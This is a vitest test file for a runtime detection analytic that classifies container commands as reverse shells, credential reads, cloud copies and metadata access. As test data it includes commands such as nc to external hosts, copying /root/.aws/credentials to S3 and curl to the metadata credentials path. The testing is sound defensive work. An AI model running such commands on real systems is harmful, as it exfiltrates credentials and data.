import type { OutflowEvent } from '@outflow/core';
import { auditEvent, cloudCall, flowEvent, processExec } from '@outflow/testkit';
import { describe, expect, it } from 'vitest';
import type { T1537ConfigInput } from '../../src/index.js';
import { EVIL, OURS, runPreset } from '../helpers.js';
import { byId, decodeLines } from './helpers.js';

const T = Date.parse('2024-05-06T13:00:00Z');
const SHOP = { namespace: 'shop', pod: 'api-0', container: 'api', image: '111122223333.dkr.ecr.eu-west-1.amazonaws.com/shop/api:5.12.0' };

function proc(time: number, executable: string, args: string[], id: string, extra: Partial<Parameters<typeof processExec>[0]> = {}) {
  return processExec({ time, source: 'tetragon', sourceId: id, process: { pid: 100, executable, args }, workload: SHOP, ...extra });
}

function putObject(time: number, bucket: string, owner: string, id: string) {
  return cloudCall({
    time,
    sourceId: id,
    service: 's3.amazonaws.com',
    operation: 'PutObject',
    recipientAccountId: owner,
    actor: { type: 'AssumedRole', accountId: owner, arn: `arn:aws:sts::${owner}:assumed-role/backup-writer/s` },
    request: { bucketName: bucket, key: 'x' },
    resources: [{ type: 'AWS::S3::Bucket', arn: `arn:aws:s3:::${bucket}`, accountId: owner }],
  });
}

const SYNC = ['aws', 's3', 'sync', '/backup', 's3://acme-backups/db/'];
const ORG: T1537ConfigInput = { organization: { accounts: [OURS] } };

describe('exec_payload (11) on real Tetragon examples (tetragon-examples.jsonl)', () => {
  it('reports nc to an external host and the keystore read; curl GET and a shell script are not findings', async () => {
    const run = await runPreset(decodeLines('k8s/tetragon-examples.jsonl', 'tetragon'));
    const alerts = run.alerts.filter((a) => a.detection.id === 'exec_payload');
    expect(alerts.map((a) => [a.status, a.severity, a.attributes?.['exec.payload.categories'], a.count])).toEqual([
      ['new', 'high', ['sensitive_read'], 1],
      ['new', 'medium', ['network_tool'], 1],
      // the connection nc opened (a process_connect record) folds into the exec's alert
      ['update', 'medium', ['network_tool'], 2],
    ]);
    expect(alerts[1]?.explanation.summary).toBe(
      'A process ran `nc raiz3gjkgtfhkkc.not-reverse-shell.com 443` in pod tenant-jobs/elasticsearch-56f8fc6988-65smb: nc connects to raiz3gjkgtfhkkc.not-reverse-shell.com:443 (external).',
    );
    expect(alerts[0]?.attributes).toMatchObject({
      'exec.payload.source': 'tetragon',
      'process.executable.path': '/usr/bin/cat',
      'k8s.namespace.name': 'tenant-jobs',
      'container.image.name': 'quay.io/isovalent/jobs-app-elasticsearch:latest',
    });
  });
});

describe('exec_payload (11) on Falco alerts (falco-runtime.jsonl)', () => {
  it('classifies the command line of each alert: terminal shell, credential read, archive, reverse shell; mysqld is nothing', async () => {
    const run = await runPreset(decodeLines('k8s/falco-runtime.jsonl', 'falco'));
    expect(byId(run.alerts, 'exec_payload').map((a) => [a.evidence[0]?.id.slice(-1), a.severity, a.attributes?.['exec.payload.categories']])).toEqual([
      ['1', 'low', ['interactive_shell']],
      ['2', 'high', ['sensitive_read']],
      ['3', 'medium', ['archive']],
      ['4', 'critical', ['reverse_shell']],
    ]);
  });

  it('minSeverity drops what is below it, counted', async () => {
    const run = await runPreset(decodeLines('k8s/falco-runtime.jsonl', 'falco'), { analytics: { exec_payload: { params: { minSeverity: 'medium' } } } });
    expect(byId(run.alerts, 'exec_payload').map((a) => a.severity)).toEqual(['high', 'medium', 'critical']);
    expect(run.stats.find((s) => s.component === 'exec_payload' && s.counter === 'dropped' && s.reason === 'below_min_severity')?.value).toBe(1);
  });
});

describe('exec_payload (11): cloud copies and who owns the bucket', () => {
  it('waits for CloudTrail to name the owner: ours is excepted by default (suppressed, not lost)', async () => {
    const run = await runPreset([proc(T, '/usr/local/bin/aws', SYNC, 'sync'), putObject(T + 60_000, 'acme-backups', OURS, 'put')], ORG);
    expect(byId(run.alerts, 'exec_payload')).toEqual([]);
    const [s] = run.suppressed.filter((x) => x.finding.detection.id === 'exec_payload');
    expect(s?.finding.attributes).toMatchObject({
      'exec.payload.bucket': 'acme-backups',
      'exec.payload.bucket.ownership': 'ours',
      'aws.s3.destination.bucket': 'acme-backups',
    });
    expect(s?.finding.severity).toBe('low');
  });

  it('an owner that is not ours makes it high; no owner at all leaves it medium (unknown)', async () => {
    const foreign = await runPreset([proc(T, '/usr/local/bin/aws', SYNC, 'sync'), putObject(T + 60_000, 'acme-backups', EVIL, 'put')], ORG);
    expect(byId(foreign.alerts, 'exec_payload').map((a) => [a.severity, a.attributes?.['exec.payload.bucket.ownership']])).toEqual([['high', 'foreign']]);
    const unknown = await runPreset([proc(T, '/usr/local/bin/aws', SYNC, 'sync')], ORG);
    expect(byId(unknown.alerts, 'exec_payload').map((a) => [a.severity, a.attributes?.['exec.payload.bucket.ownership']])).toEqual([['medium', 'unknown']]);
  });

  it('the wait is released by the watermark (events one per batch), and bounded by bucketOwnerWaitMs', async () => {
    const later = proc(T + 30 * 60_000, '/app/server', ['server'], 'later');
    const events = [proc(T, '/usr/local/bin/aws', SYNC, 'sync'), putObject(T + 60_000, 'acme-backups', OURS, 'put'), later];
    const waited = await runPreset(events, ORG, { batchSize: 1 });
    expect(waited.suppressed.map((s) => s.finding.attributes?.['exec.payload.bucket.ownership'])).toEqual(['ours']);
    const immediate = await runPreset(events, { ...ORG, analytics: { exec_payload: { params: { bucketOwnerWaitMs: 0 } } } }, { batchSize: 1 });
    expect(byId(immediate.alerts, 'exec_payload').map((a) => a.attributes?.['exec.payload.bucket.ownership'])).toEqual(['unknown']);
  });

  it('organization.buckets makes a bucket ours at once; the exception can be turned off', async () => {
    const config: T1537ConfigInput = { organization: { accounts: [OURS], buckets: ['acme-*'] } };
    const run = await runPreset([proc(T, '/usr/local/bin/aws', SYNC, 'sync')], config);
    expect(run.suppressed.map((s) => s.finding.attributes?.['exec.payload.bucket.ownership'])).toEqual(['ours']);
    const off = await runPreset([proc(T, '/usr/local/bin/aws', SYNC, 'sync')], { ...config, analytics: { exec_payload: { defaultExceptions: false } } });
    expect(byId(off.alerts, 'exec_payload').map((a) => a.severity)).toEqual(['low']);
  });

  it('the exception covers only pure cloud copies: a copy of credentials to our bucket still alerts', async () => {
    const run = await runPreset([proc(T, '/usr/local/bin/aws', ['aws', 's3', 'cp', '/root/.aws/credentials', 's3://acme-backups/c'], 'creds')], {
      organization: { accounts: [OURS], buckets: ['acme-*'] },
    });
    expect(byId(run.alerts, 'exec_payload').map((a) => [a.severity, a.attributes?.['exec.payload.categories']])).toEqual([
      ['high', ['cloud_copy', 'sensitive_read']],
    ]);
  });
});

describe('exec_payload (11): destinations named by a command, then contacted', () => {
  const exec = (time: number, command: string[], pod = 'api-0') =>
    auditEvent({
      time,
      sourceId: `exec-${time}`,
      auditId: `exec-${time}`,
      stage: 'ResponseComplete',
      verb: 'create',
      user: { username: 'mallory@example.net' },
      objectRef: { resource: 'pods', subresource: 'exec', namespace: 'shop', name: pod, apiVersion: 'v1' },
      responseCode: 101,
      command,
      workload: { namespace: 'shop', pod },
    });
  const flow = (time: number, bytes: number, pod = 'api-0', dst = '203.0.113.99') =>
    flowEvent({
      time,
      sourceId: `flow-${time}`,
      src: { address: '10.20.0.7', port: 40000 },
      dst: { address: dst, port: 8080 },
      direction: 'egress',
      bytes,
      workload: { namespace: 'shop', pod },
    });

  it('a flow from the same pod to the named address confirms the transfer: once without bytes, raised with bytes', async () => {
    const events: OutflowEvent[] = [
      flow(T - 60_000, 10), // before the command: not a confirmation
      exec(T, ['nc', '203.0.113.99', '8080']),
      flow(T + 10_000, 0, 'checkout-0'), // another pod
      flow(T + 20_000, 0),
      flow(T + 30_000, 0),
      flow(T + 40_000, 5_000_000),
      flow(T + 50_000, 5_000_000),
    ];
    const run = await runPreset(events);
    const contacted = run.alerts.filter((a) => a.detection.id === 'exec_payload' && a.attributes?.['exec.payload.contacted'] === true);
    expect(contacted.map((a) => [a.status, a.severity, a.count])).toEqual([
      ['new', 'medium', 1],
      ['update', 'high', 2],
    ]);
    expect(contacted[1]?.evidence.map((e) => e.id)).toEqual([`flow-${T + 20_000}`, `exec-${T}`, `flow-${T + 40_000}`]);
    expect(contacted[1]?.explanation.summary).toBe(
      'pod shop/api-0 connected to 203.0.113.99 and sent 5000000 bytes, the destination of `nc 203.0.113.99 8080` run 40 s before.',
    );
  });

  it('internal destinations are not watched', async () => {
    const run = await runPreset([exec(T, ['nc', '10.20.5.5', '8080']), flow(T + 10_000, 100, 'api-0', '10.20.5.5')]);
    expect(run.alerts.filter((a) => a.attributes?.['exec.payload.contacted'] === true)).toEqual([]);
  });
});

describe('exec_payload (11): connections of named processes (Tetragon flows)', () => {
  const conn = (time: number, executable: string, args: string[], dst: string, execId: string) =>
    flowEvent({
      time,
      source: 'tetragon',
      sourceId: `conn-${time}`,
      src: { address: '10.20.0.7', port: 40000 },
      dst: { address: dst, port: 80 },
      direction: 'egress',
      workload: SHOP,
      attributes: { 'process.executable.path': executable, 'process.command_args': args, 'tetragon.exec_id': execId },
    });

  it('curl to the metadata service is reported even when its arguments hide the address; an SDK is not; repeats are classified once', async () => {
    const run = await runPreset([
      conn(T, '/usr/bin/curl', ['curl', '-s', '$IMDS/latest/meta-data/iam/security-credentials/'], '169.254.169.254', 'e1'),
      conn(T + 1000, '/usr/bin/curl', ['curl', '-s', '$IMDS/latest/meta-data/iam/security-credentials/'], '169.254.169.254', 'e1'),
      conn(T + 2000, '/usr/local/bin/python3', ['python3', '/app/main.py'], '169.254.169.254', 'e2'),
    ]);
    const alerts = run.alerts.filter((a) => a.detection.id === 'exec_payload');
    expect(alerts.map((a) => [a.status, a.severity, a.attributes?.['exec.payload.categories'], a.attributes?.['destination.address']])).toEqual([
      ['new', 'medium', ['metadata_access'], '169.254.169.254'],
    ]);
  });
});

describe('exec_payload (11): bad input never throws', () => {
  it('odd commands and processes reach the classifier without exceptions or dead letters', async () => {
    const odd: OutflowEvent[] = [
      proc(T, '', [], 'p1'),
      proc(T, '/bin/sh', ['sh', '-c'], 'p2'),
      proc(T, '/bin/sh', ['sh', '-c', '"unterminated'], 'p3'),
      proc(T, '/usr/bin/curl', ['curl', '-T'], 'p4'),
      proc(T, '/usr/bin/nc', ['nc', '-e'], 'p5'),
      proc(T, '/bin/tar', ['tar'], 'p6'),
      proc(T, '/usr/bin/aws', ['aws', 's3', 'cp'], 'p7'),
      proc(T, '/usr/bin/socat', ['socat', 'TCP:', 'EXEC:'], 'p8'),
      proc(T, '/bin/sh', ['sh', '-c', `${'$('.repeat(5000)}`], 'p9'),
      proc(T, '/usr/bin/python3', ['python3', '-c'], 'p10'),
      auditEvent({ time: T, objectRef: { resource: 'pods', subresource: 'exec', namespace: 'x', name: 'y' }, command: ['', '', ''] }),
      auditEvent({ time: T, objectRef: { resource: 'pods', subresource: 'exec' }, command: ['sh', '-c', 'x'.repeat(100_000)] }),
    ];
    const run = await runPreset(odd);
    expect(run.deadLetter.entries()).toEqual([]);
    // Incomplete commands name no destination or file: nothing to report.
    expect(byId(run.alerts, 'exec_payload').map((a) => a.explanation.summary)).toEqual([]);
  });
});
